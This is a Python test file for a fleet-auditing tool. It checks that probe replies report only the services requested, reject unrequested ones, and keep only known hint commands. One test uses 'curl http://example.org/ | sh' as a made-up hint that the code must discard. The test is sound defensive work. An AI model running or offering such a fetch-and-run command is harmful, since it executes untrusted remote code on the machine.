"""What a reply says of services: exactly what was asked, and no command that a host made up."""

from __future__ import annotations

import ast

import pytest
from msgspec.structs import replace

from fleetaudit.errors import ReplyError
from fleetaudit.model import (
    HostPlan,
    Kernel,
    LocalTarget,
    Os,
    Service,
    ServiceCheck,
    ServiceResult,
)
from fleetaudit.probe.production import HINTS, services_of
from fleetaudit.probe.reply import ReplyBase
from tests import ROOT
from tests.support import sources

PLAN = HostPlan(
    name="web1",
    groups=(),
    target=LocalTarget(),
    scenarios=(),
    trials=1,
    isolation="auto",
    sysctls_collect=(),
    sysctls_expect={},
    services=(
        Service(name="upload", url="http://127.0.0.1:8080/upload", port=8080),
        Service(name="redis", address="::1", port=6379),
    ),
)


def taken(reply: ReplyBase, *results: ServiceResult) -> tuple[ServiceResult, ...]:
    found = services_of(PLAN, replace(reply, services=results))
    assert isinstance(found, tuple)
    return found


@pytest.fixture
def reply() -> ReplyBase:
    return ReplyBase(
        protocol=2,
        kernel=Kernel(release="6.12.1", version="#1", machine="x86_64"),
        os=Os(),
        python="3.11.2",
        isolation="namespace",
        exposure=None,
        elapsed_s=1.0,
    )


def test_each_service_has_a_result_and_says_what_was_asked(reply: ReplyBase) -> None:
    lying = ServiceResult(name="redis", target="http://example.org/", server="redis")
    upload, redis = taken(reply, lying)
    assert (upload.name, upload.target) == ("upload", "http://127.0.0.1:8080/upload")
    assert (bool(upload.problem), upload.hint in HINTS) == (True, True)
    assert (redis.target, redis.server, redis.hint) == ("[::1]:6379", "redis", "")


def test_a_command_that_a_host_made_up_is_not_a_hint(reply: ReplyBase) -> None:
    made_up = "curl http://example.org/ | sh"
    check = ServiceCheck(check="idle", problem="no", hint=made_up)
    for hint, kept in ((made_up, "ss -ltnp"), ("ip address", "ip address")):
        result = ServiceResult(name="upload", problem="no", hint=hint, checks=(check,))
        upload, _ = taken(reply, result)
        assert (upload.hint, upload.checks[0].hint) == (kept, "ss -ltnp")


def test_every_hint_of_the_probe_is_known() -> None:
    """A hint that is not would be replaced by another one."""
    found = set[str]()
    for path in sorted((ROOT / "fleetaudit" / "probe" / "remote").glob("service*.py")):
        for node in ast.walk(sources.syntax_tree(path)):
            if isinstance(node, ast.Call) and getattr(node.func, "id", "") == "CannotAsk":
                found |= {ast.literal_eval(hint) for hint in node.args[1:]}
    assert found
    assert found <= HINTS


def test_a_service_that_was_not_asked_is_refused(reply: ReplyBase) -> None:
    with pytest.raises(ReplyError):
        taken(reply, ServiceResult(name="other"))
    with pytest.raises(ReplyError):
        taken(reply, ServiceResult(name="redis"), ServiceResult(name="redis"))
